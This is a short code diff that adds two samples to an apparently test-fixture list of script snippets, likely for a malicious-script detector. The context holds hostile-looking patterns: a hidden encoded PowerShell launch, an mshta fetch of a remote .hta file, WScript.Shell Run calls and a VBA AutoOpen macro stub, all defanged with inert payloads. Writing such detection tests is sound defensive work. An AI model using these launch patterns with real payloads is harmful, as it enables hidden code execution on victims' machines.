@@ -147,6 +147,8 @@ TEXTS = [
     ("powershell -nop -w hidden -enc JABhAD0AMQA=", "script.cmd"),
     ('"C:\\Windows\\System32\\cmd.exe" /c echo inert', "script.cmd"),
     ("mshta https://files.example.test/a.hta", "script.cmd"),
+    ('WScript.CreateObject("WScript.Shell").Run("cmd /c echo inert");', "script.js"),
+    ('WScript.CreateObject("WScript.Shell").Run("cmd /c echo inert")', "script.vbs"),
     ('Dim shell\r\nSet shell = CreateObject("WScript.Shell")\r\nshell.Run "cmd /c echo inert", 0\r\n', "script.vbs"),
     ('On Error Resume Next\nFor i = 1 To 3\n  WScript.Echo i\nNext\nFunction f(a)\n f = Replace(a, "x", "")\nEnd Function\n', "script.vbs"),
     ('Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\nEnd Sub\r\n', "office.vba-source"),
